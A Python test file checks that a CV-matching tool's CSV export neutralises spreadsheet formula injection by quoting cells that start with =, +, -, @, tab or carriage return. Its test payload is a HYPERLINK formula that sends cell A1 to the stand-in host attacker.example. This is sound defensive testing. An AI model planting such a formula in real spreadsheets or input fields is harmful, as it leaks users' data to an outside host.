"""The batch CSV: text that a spreadsheet would run as a formula is neutralised, nothing else changes."""
from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from api.csv_export import COLUMNS, results_csv, safe_text

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://attacker.example/?leak="&A1,"CV")'


def scored(name: str, *, candidate_id: str = "C01", skill: str = "Python", improvement: float = 12.5) -> dict[str, Any]:
    section = {"score": 70.0}
    return {
        "rank": 1,
        "candidate_id": candidate_id,
        "candidate_name": name,
        "grade": "Medium Match",
        "score_comparison": {"semantic_score": 70.0, "keyword_score": 57.5, "improvement": improvement},
        "breakdown": {"skills": section, "experience": section, "education": section},
        "matched_skills": [{"name": skill}],
        "missing_skills": [{"name": skill}],
        "language": "en",
    }


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_text_cell_that_would_start_a_formula_gets_a_leading_quote(start: str) -> None:
    dangerous = f"{start}{PAYLOAD}"
    failure = {"candidate_id": dangerous, "candidate_name": dangerous, "error": {"code": "cv_text_empty", "message": "x"}}
    text = results_csv([scored(dangerous, candidate_id=dangerous, skill=dangerous)], [failure])
    done, failed = rows(text)
    for cell in (done["candidate_id"], done["candidate_name"], done["matched_skills"], done["missing_skills"],
                 failed["candidate_id"], failed["candidate_name"]):
        assert cell == f"'{dangerous}"  # shown as typed, never evaluated
    for row in (done, failed):
        assert not any(value.startswith(tuple(FORMULA_STARTS)) for value in row.values() if value), row


def test_ordinary_text_and_numbers_are_left_alone() -> None:
    text = results_csv([scored("Siti Rahma", candidate_id="C-07", improvement=-4.25)], [])
    assert text.splitlines()[0] == ",".join(COLUMNS)
    (row,) = rows(text)
    assert (row["candidate_id"], row["candidate_name"], row["matched_skills"]) == ("C-07", "Siti Rahma", "Python")
    assert row["improvement"] == "-4.25"  # a computed number, not text a candidate chose


def test_safe_text_looks_only_at_the_first_character() -> None:
    assert safe_text("") == ""
    assert safe_text("Budi = Santoso") == "Budi = Santoso"
    assert safe_text("=1+1") == "'=1+1"
    assert safe_text("\r\n=1") == "'\r\n=1"
